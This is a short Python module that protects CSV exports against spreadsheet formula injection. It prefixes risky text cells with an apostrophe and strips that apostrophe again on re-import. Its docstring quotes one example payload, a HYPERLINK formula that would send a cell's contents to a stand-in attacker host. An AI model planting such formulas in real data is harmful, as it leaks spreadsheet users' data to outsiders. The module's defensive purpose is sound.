"""CSV cells a spreadsheet would run as formulas (OWASP "CSV injection"): a text cell starting
with `=`, `+`, `-`, `@`, a tab or a carriage return is written with a `'` in front, so Excel,
LibreOffice and Google Sheets show it as text. Values come from people and trackers (names,
traits), so `=HYPERLINK("http://evil.example/?x="&A1,"click")` must never reach a spreadsheet as
a formula. Reading a CSV back removes that one quote again (only before those characters), so an
export can be imported unchanged. Parquet keeps values exact and is never touched.
"""

from __future__ import annotations

import pandas as pd

_FORMULA_START = r"^[=+\-@\t\r]"
_QUOTED_FORMULA = r"^'(?=[=+\-@\t\r])"


def neutralised(frame: pd.DataFrame) -> pd.DataFrame:
    """The frame with every formula-leading text cell prefixed by `'` (numbers untouched)."""
    out = frame.copy()
    for name in out.columns:
        column = out[name]
        if not (column.dtype == object or pd.api.types.is_string_dtype(column)):
            continue
        risky = column.str.match(_FORMULA_START, na=False).astype(bool)
        if risky.any():
            out[name] = column.where(~risky, "'" + column[risky].astype(str))
    return out


def restored(frame: pd.DataFrame) -> pd.DataFrame:
    """Text cells of a CSV read back: the protective quote in front of a formula character
    removed."""
    return frame.apply(lambda col: col.str.replace(_QUOTED_FORMULA, "", regex=True))
